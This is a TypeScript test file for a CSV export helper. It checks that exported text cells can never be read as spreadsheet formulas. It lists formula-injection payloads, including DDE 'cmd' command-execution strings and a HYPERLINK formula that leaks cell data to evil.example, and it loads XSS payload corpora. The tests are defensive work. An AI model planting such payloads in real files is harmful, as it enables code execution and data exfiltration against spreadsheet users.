import { existsSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvRow, textCell } from './csv.ts';
import { readCsv } from './testing/read-csv.ts';

/** Payloads of formula injection as they are known, and what hides them. */
const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"点这里")',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹦1+1',
  '普通名字;=1+1',
  '普通名字; \t+1+1',
  '普通名字\n=1+1',
  '",=1+1,"',
  `${'x'.repeat(40_000)}=1+1`,
];

const CORPORA = ['dompurify-payloads.json', 'xss-payload-list.json'].map(
  (name) => new URL(`../../../../../shared/corpora/${name}`, import.meta.url),
);

/** Hostile texts from elsewhere, where they are at hand. */
function corpora(): string[] {
  return CORPORA.filter((file) => existsSync(file)).flatMap((file) => {
    const found = JSON.parse(readFileSync(file, 'utf8')) as (string | { payload: string })[];
    return found.map((each) => (typeof each === 'string' ? each : each.payload));
  });
}

/** What a spreadsheet might take for a formula, be it cut at semicolons or trimmed before. */
function isFormula(cell: string): boolean {
  return cell
    .split(/[;\t\r\n]/)
    .map((part) => part.replace(/^[\s\p{Z}\p{C}]+/u, '').normalize('NFKC'))
    .some((part) => /^[=+\-@]/.test(part));
}

describe('a cell of text', () => {
  it.each(FORMULAS)('is no formula: %j', (text) => {
    const cells = readCsv(csvRow([textCell('a'), textCell(text), textCell('b')]))[0] ?? [];
    expect(cells).toHaveLength(3);
    expect(cells.filter(isFormula)).toEqual([]);
  });

  it('is no formula, whatever it is made of', () => {
    const parts = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '＝',
      '－',
      ';',
      ' ',
      '\t',
      '\r\n',
      '"',
      ',',
      'x',
      '1',
      '金',
    );
    fc.assert(
      fc.property(
        fc.array(parts).map((all) => all.join('')),
        (text) => {
          const rows = readCsv(csvRow(['1', textCell(text), '2']));
          expect(rows).toHaveLength(1);
          expect(rows[0]).toHaveLength(3);
          expect((rows[0] ?? []).filter(isFormula)).toEqual([]);
        },
      ),
    );
  });

  it('is no formula, and stays one cell, for every known payload', () => {
    const texts = [...FORMULAS, ...corpora()];
    const rows = readCsv(texts.map((text) => csvRow(['1', textCell(text), '2'])).join(''));
    expect(rows).toHaveLength(texts.length);
    expect(rows.filter((cells) => cells.length !== 3)).toEqual([]);
    expect(rows.flat().filter(isFormula)).toEqual([]);
  });

  it('keeps what is harmless as it is', () => {
    const texts = [
      '金龙献宝',
      'Mines - Pro',
      'a=b',
      '50%?',
      '龙"虎",斗',
      ' 空格 ',
      '',
      'B20261121K7Q2',
    ];
    expect(readCsv(csvRow(texts.map(textCell)))).toEqual([texts]);
  });

  it.each([
    '1234567890123456789',
    '00123',
    '1E5',
    '12e18',
    '2026-11-21',
    '3/4',
    '12:30',
    '3月4日',
    '5.50%',
  ])('is no number where it looks like one: %s', (text) => {
    // The tab makes it text for a spreadsheet, and is not seen there.
    expect(textCell(text)).toBe(`"${text}\t"`);
  });
});
